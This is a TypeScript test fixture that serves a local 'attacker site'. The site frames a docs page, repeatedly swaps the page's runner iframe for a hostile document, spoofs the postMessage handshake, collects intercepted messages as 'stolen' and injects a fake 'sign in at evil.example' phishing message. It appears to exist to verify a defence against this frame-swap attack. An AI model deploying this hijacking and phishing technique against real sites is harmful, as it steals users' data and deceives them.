/**
 * A site that frames the docs page and attacks its runner channel (decisions/0025), for the browser
 * tests in every engine: it swaps whatever frame the docs page creates for its own document, which
 * answers the handshake as the runner would without the secret, and reports anything it receives.
 * The attacking page keeps `window.stolen` (what reached it), `window.swaps` (frames replaced) and
 * `window.docsLoaded` (the docs page has loaded in its frame).
 */
import { createServer, type Server } from 'node:http';

/** A page on another site that frames the docs page and swaps the runner frame for its own document. */
export async function startAttackerSite(
  docsUrl: string,
): Promise<{ url: string; close(): Promise<void> }> {
  let origin = '';
  const evil = `<!doctype html><title>evil</title><script>
const report = (what) => top.postMessage({ stolen: String(what).slice(0, 300) }, '*');
const serve = (port) => {
  port.onmessage = (event) => {
    report(JSON.stringify(event.data));
    const run = event.data && event.data.run;
    if (event.data && event.data.type === 'run') {
      port.postMessage({ type: 'started', run });
      port.postMessage({ type: 'console', run, entries: [{ host: 'sandbox', level: 'error', text: 'Session expired: sign in at evil.example', t: 0 }] });
    }
  };
  port.postMessage({ type: 'ready' });
};
// The old handshake: the page posted its port to whatever document the frame held.
addEventListener('message', (event) => { if (event.ports[0]) { report('port'); serve(event.ports[0]); } });
// The new one: answer as the runner would, without knowing the secret.
const channel = new MessageChannel();
serve(channel.port1);
parent.postMessage({ type: 'bcp-ready', secret: '0'.repeat(32) }, '*', [channel.port2]);
</script>`;
  const attack = () => `<!doctype html><title>attacker</title>
<iframe src="${docsUrl}" width="1200" height="850" onload="window.docsLoaded = true"></iframe><script>
window.stolen = []; window.swaps = 0;
addEventListener('message', (event) => { if (event.data && event.data.stolen) stolen.push(event.data.stolen); });
// Whatever frame the docs page creates is replaced with the attacker's document, again and again.
const docs = frames[0];
setInterval(() => {
  if (docs.length > 0) { docs[0].location = '${origin}/evil.html'; swaps += 1; }
}, 20);
</script>`;
  const server: Server = createServer((request, response) => {
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    response.end(request.url === '/evil.html' ? evil : attack());
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  // "localhost" is another site than the docs' 127.0.0.1: the framing page is cross-origin.
  origin = `http://localhost:${port}`;
  return {
    url: `${origin}/attack.html`,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}
